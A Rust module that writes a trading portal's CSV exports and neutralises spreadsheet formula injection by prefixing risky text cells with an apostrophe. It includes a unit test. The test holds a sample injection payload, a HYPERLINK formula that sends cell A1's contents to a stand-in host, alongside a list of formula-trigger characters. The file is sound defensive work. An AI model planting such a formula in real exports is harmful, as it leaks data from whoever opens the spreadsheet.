//! The one way the portal writes CSV. A spreadsheet runs a cell that starts with `=`, `+`,
//! `-` or `@` (or a tab or carriage return before one) as a formula, so a trader's name
//! typed as `=HYPERLINK(...)` would run on the computer of whoever opens the export. Every
//! text cell that could be read so is prefixed with `'`, as OWASP's CSV injection guidance
//! says; numbers are written as numbers. Cells are typed, so an export says which is which
//! and cannot forget to neutralise a text.
use std::borrow::Cow;

/// One cell of a row.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// Free or fixed text: neutralised when a spreadsheet could read it as a formula.
    Text(&'a str),
    /// A whole number, written as it is (a negative count is a number, not a formula).
    Integer(i64),
    /// A decimal figure with this many decimals; `None` is an empty cell.
    Decimal(Option<f64>, usize),
}

/// Characters that make a spreadsheet read a cell as a formula when they come first;
/// the full-width forms are read so by some spreadsheets too.
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// `text` as a cell no spreadsheet runs: prefixed with `'` when it starts (after any
/// spaces) with a formula character.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let first = text.trim_start_matches(' ').chars().next();
    if first.is_some_and(|c| FORMULA_STARTS.contains(&c)) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

impl Cell<'_> {
    fn written(&self) -> Cow<'_, str> {
        match *self {
            Cell::Text(t) => neutralise(t),
            Cell::Integer(n) => Cow::Owned(n.to_string()),
            Cell::Decimal(Some(x), places) if x.is_finite() => Cow::Owned(format!("{x:.places$}")),
            Cell::Decimal(..) => Cow::Borrowed(""),
        }
    }
}

/// Writes a header and rows of typed cells as CSV.
pub struct Writer {
    inner: csv::Writer<Vec<u8>>,
}

impl Writer {
    pub fn new(header: &[&str]) -> Result<Writer, csv::Error> {
        let mut w = Writer {
            inner: csv::Writer::from_writer(vec![]),
        };
        let cells: Vec<Cell> = header.iter().map(|h| Cell::Text(h)).collect();
        w.row(&cells)?;
        Ok(w)
    }

    pub fn row(&mut self, cells: &[Cell]) -> Result<(), csv::Error> {
        self.inner
            .write_record(cells.iter().map(|c| c.written().into_owned()))
    }

    pub fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.inner.into_inner().map_err(|e| e.into_error().into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv_of(rows: &[&[Cell]]) -> String {
        let mut w = Writer::new(&["a", "b"]).unwrap();
        for r in rows {
            w.row(r).unwrap();
        }
        String::from_utf8(w.finish().unwrap()).unwrap()
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_prefixed_and_numbers_are_not() {
        let formula = r#"=HYPERLINK("http://example.org/?x="&A1,"open")"#;
        let out = csv_of(&[
            &[Cell::Text(formula), Cell::Integer(-2)],
            &[Cell::Text("+1"), Cell::Decimal(Some(-1.26), 1)],
            &[Cell::Text("-1+2"), Cell::Decimal(None, 1)],
            &[Cell::Text("@SUM(A1)"), Cell::Integer(3)],
            &[Cell::Text("\t=1"), Cell::Text("\r=1")],
            &[Cell::Text("  =1"), Cell::Text("\u{ff1d}1")],
            &[Cell::Text("Alpha Ltd"), Cell::Text("a=b")],
        ]);
        let mut r = csv::Reader::from_reader(out.as_bytes());
        let rows: Vec<Vec<String>> = r
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            vec![
                vec![format!("'{formula}"), "-2".into()],
                vec!["'+1".to_string(), "-1.3".into()],
                vec!["'-1+2".to_string(), "".into()],
                vec!["'@SUM(A1)".to_string(), "3".into()],
                vec!["'\t=1".to_string(), "'\r=1".into()],
                vec!["'  =1".to_string(), "'\u{ff1d}1".into()],
                vec!["Alpha Ltd".to_string(), "a=b".into()],
            ]
        );
    }
}
